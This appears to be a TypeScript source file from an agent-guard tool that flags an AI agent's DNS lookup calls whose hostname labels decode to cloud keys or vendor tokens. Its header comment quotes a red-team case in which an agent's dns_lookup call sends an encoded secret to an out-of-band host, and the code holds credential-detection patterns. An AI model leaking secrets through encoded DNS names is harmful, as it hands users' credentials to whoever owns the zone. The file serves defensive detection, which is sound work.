/**
 * A secret carried out in the name a lookup tool resolves (red team r14: `dns_lookup
 * {hostname: "QUtJQVEz….x.oast.fun"}`): the resolver hands every label to the zone's owner, so
 * labels that decode (base64, base32 or hex, split over several labels or not) to a credential
 * send it there, whatever the domain. Ordinary names and the random ids of test hosts decode to
 * nothing readable and give nothing. One `agent-guard-action leak secret <detail>` line for PLT-AST-003.
 */
import { quote, type CliEquivalent } from './cli.js';
import { ACTION_PROGRAM } from './saas.js';
import { secretIn } from './outside-send.js';
import { union, type Gate } from './signals.js';

const LOOKUP = /^(?:dns|lookup|resolve|resolver|nslookup|dig|ping|resolve_host|whois)$/;
const NAME_KEY = /^(?:hostname|host|domain|name|query|target|fqdn|qname|address)$/;
/** A cloud access key id or a vendor token in decoded text. */
const KEY_ID =
  /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b|\b(?:ghp|gho|ghs|github_pat|glpat|xox[abp]|sk_live|npm)_?[A-Za-z0-9_-]{16,}/;

function base32(s: string): string {
  let bits = 0;
  let value = 0;
  let out = '';
  for (const c of s.toUpperCase()) {
    const i = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.indexOf(c);
    if (i < 0) return '';
    value = (value << 5) | i;
    bits += 5;
    if (bits >= 8) {
      out += String.fromCharCode((value >>> (bits - 8)) & 255);
      bits -= 8;
    }
  }
  return out;
}

/** The readable texts an encoded run may stand for. */
function decodings(run: string): string[] {
  const out: string[] = [];
  if (/^[A-Za-z0-9+/_-]{16,}$/.test(run))
    out.push(Buffer.from(run.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('latin1'));
  if (/^[A-Za-z2-7]{16,}$/.test(run)) out.push(base32(run));
  if (/^(?:[0-9a-f]{2}){8,}$/i.test(run)) out.push(Buffer.from(run, 'hex').toString('latin1'));
  return out.filter((t) => /^[\x20-\x7e]{8,}$/.test(t));
}

/** When dnsLabelLines can answer (signals.ts): its first test, the name word of a lookup (LOOKUP). */
export const DNS_LABEL_GATE: Gate = { name: union(LOOKUP) };

export function dnsLabelLines(w: readonly string[], f: Map<string, unknown>): CliEquivalent[] {
  if (!w.some((x) => LOOKUP.test(x))) return [];
  for (const [k, v] of f) {
    if (!NAME_KEY.test(k) || typeof v !== 'string' || v.length > 512) continue;
    const labels = v.trim().replace(/\.$/, '').split('.');
    if (labels.length < 3) continue;
    const data = labels.slice(0, -2);
    for (const run of [...data, data.filter((l) => l.length >= 8).join('')]) {
      const secret = decodings(run).find((t) => KEY_ID.test(t) || secretIn(t) !== undefined);
      if (secret !== undefined)
        return [
          {
            code: [
              ACTION_PROGRAM,
              'leak',
              'secret',
              quote(
                `${w.join('_')} resolves a name that encodes a credential to ${labels.slice(-2).join('.')}`,
              ),
            ].join(' '),
            runtime: 'bash',
          },
        ];
    }
  }
  return [];
}
